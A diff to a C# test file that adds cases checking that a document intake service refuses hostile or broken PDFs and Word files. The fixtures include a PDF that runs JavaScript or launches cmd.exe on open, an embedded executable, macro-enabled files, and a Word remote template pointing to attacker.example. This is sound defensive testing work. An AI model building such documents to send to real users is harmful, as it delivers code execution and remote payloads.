@@ -86,6 +86,29 @@ public sealed class IntakeTests : IAsyncLifetime
         await ShouldHaveStoredNothingAsync();
     }
 
+    public static TheoryData<string, byte[]?, byte[]?, string> HostileDocuments() => new()
+    {
+        { "a PDF that only starts like one", "%PDF-1.7\nnot a PDF body"u8.ToArray(), null, "cannot be read" },
+        { "a PDF that runs script when opened", SampleDocuments.Pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "), null, "script" },
+        { "a PDF that launches a program", SampleDocuments.Pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "), null, "launches a program" },
+        { "a PDF with an embedded file", SampleDocuments.Pdf("/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> ", "", "<< /Type /Filespec /F (x.exe) >>"), null, "attached files" },
+        { "an encrypted PDF", SampleDocuments.EncryptedPdf(), null, "encrypted" },
+        { "a .docm saved as .docx", null, SampleDocuments.DocxWithContentType("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros" },
+        { "a Word file with a remote template", null, SampleDocuments.DocxWithExternalRelationship("attachedTemplate", "https://attacker.example/t.dotm"), "remote template" },
+        { "a zip that is not a Word document", null, SampleDocuments.ZipThatIsNotWord(), "not a Word document" },
+    };
+
+    /// <summary>Decided from the bytes intake holds, so the enterprise hears it at once and can send a corrected file.</summary>
+    [Theory]
+    [MemberData(nameof(HostileDocuments))]
+    public async Task A_hostile_or_broken_document_is_refused_at_intake_and_nothing_is_stored(string what, byte[]? pdf, byte[]? docx, string reason)
+    {
+        var outcome = await Intake.SubmitAsync(Incoming.Submission(_callId, pdf: pdf, docx: docx), default);
+
+        outcome.ShouldBeOfType<IntakeOutcome.UnsupportedDocument>(what).Errors.ShouldHaveSingleItem().En.ShouldContain(reason);
+        await ShouldHaveStoredNothingAsync();
+    }
+
     [Fact]
     public async Task A_DOCX_that_is_not_a_zip_is_refused()
     {
